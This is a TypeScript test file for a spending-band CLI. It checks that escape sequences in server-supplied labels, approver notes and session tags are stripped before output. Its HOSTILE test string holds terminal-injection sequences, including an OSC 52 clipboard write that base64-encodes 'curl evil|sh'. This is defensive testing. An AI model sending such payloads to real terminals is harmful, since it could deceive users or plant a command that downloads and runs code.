// Issue #20 finding 4: strings from the other side printed by the real CLI (an approver's note in
// `requests` and `run`, a band label in `status`, a session tag in `admin tag list`) reach the
// terminal without their escape sequences. The CLI runs as a child process; what a terminal would
// receive is its stdout/stderr bytes.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { runCli, startTestServer, tempDir, type TestServer } from './cliKit';

const ESC = '\u001b';
const HOSTILE = `Denied${ESC}[2K${ESC}[1GApproved ${ESC}]0;pwned${ESC}\\${ESC}]52;c;Y3VybCBldmlsfHNo\u0007\u202eok\u009b2J`;

const TERMINAL_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('CLI output: no terminal escape sequences from the endpoint (#20 finding 4)', function () {
  this.timeout(120_000);
  let tmp: { dir: string; cleanup(): void };
  let server: TestServer;
  let env: Record<string, string>;

  before(async () => {
    tmp = tempDir('spend-band-escapes-');
    server = await startTestServer(tmp.dir);
    env = {
      HOME: tmp.dir,
      SPEND_BAND_ENDPOINT: server.server.url,
      SPEND_BAND_TOKEN: server.server.demoToken!,
      SPEND_BAND_CACHE: join(tmp.dir, 'cache'),
      SPEND_BAND_CONFIG: join(tmp.dir, 'absent.json'),
      CLAUDE_CONFIG_DIR: join(tmp.dir, 'no-claude'),
      CODEX_HOME: join(tmp.dir, 'no-codex'),
    };
  });
  after(async () => {
    await server.close();
    tmp.cleanup();
  });

  it('status: a band label with ESC/OSC sequences and bidi overrides is printed as plain text', async () => {
    const set = await server.admin([
      'band',
      'set',
      '--developer',
      'demo',
      '--workflow',
      'review',
      '--allocated-usd',
      '40',
      '--label',
      HOSTILE,
    ]);
    assert.equal(set.code, 0, set.stderr);
    const result = await runCli(['status'], env);
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, /DeniedApproved ok/, 'the text is shown, without its sequences');
    assert.doesNotMatch(result.stdout + result.stderr, TERMINAL_CONTROLS);
  });

  it("requests and run: an approver's note with ESC sequences is printed as plain text", async () => {
    // A run that needs approval files a request; the approver denies it with a hostile note.
    const first = await runCli(
      ['run', '--workflow', 'background_automation', '--estimate-usd', '10', '--', process.execPath, '-e', '0'],
      env,
    );
    assert.equal(first.code, 11, first.stderr);
    const id = /Approval request (\S+): pending/.exec(first.stderr)?.[1];
    assert.ok(id, first.stderr);
    const denied = await server.admin(['request', 'deny', id, '--note', HOSTILE, '--by', `Eve${ESC}[8m`]);
    assert.equal(denied.code, 0, denied.stderr);
    const listed = await runCli(['requests'], env);
    assert.equal(listed.code, 0, listed.stderr);
    assert.match(listed.stdout, /DeniedApproved ok/);
    assert.doesNotMatch(listed.stdout + listed.stderr, TERMINAL_CONTROLS);
    const again = await runCli(
      ['run', '--workflow', 'background_automation', '--estimate-usd', '10', '--', process.execPath, '-e', '0'],
      env,
    );
    assert.notEqual(again.code, 0);
    assert.match(again.stderr, /denied/i);
    assert.doesNotMatch(again.stdout + again.stderr, TERMINAL_CONTROLS);
  });

  it('admin tag list: a tag id or workflow sent by an editor is printed as plain text', async () => {
    const r = await fetch(`${server.server.url}/v1/me/session-tags`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${server.server.demoToken}`,
        'idempotency-key': randomUUID(),
        'content-type': 'application/json',
      },
      body: JSON.stringify({
        items: [
          {
            id: randomUUID(),
            workflow: `x${ESC}]0;t${ESC}\\`,
            started_at: new Date(Date.now() - 60_000).toISOString(),
            ended_at: null,
          },
        ],
      }),
    });
    const body = (await r.json()) as { accepted: string[] };
    const listed = await server.admin(['tag', 'list']);
    assert.equal(listed.code, 0, listed.stderr);
    if (body.accepted.length > 0) assert.match(listed.stdout, /\bx\b/);
    assert.doesNotMatch(listed.stdout, TERMINAL_CONTROLS);
  });
});
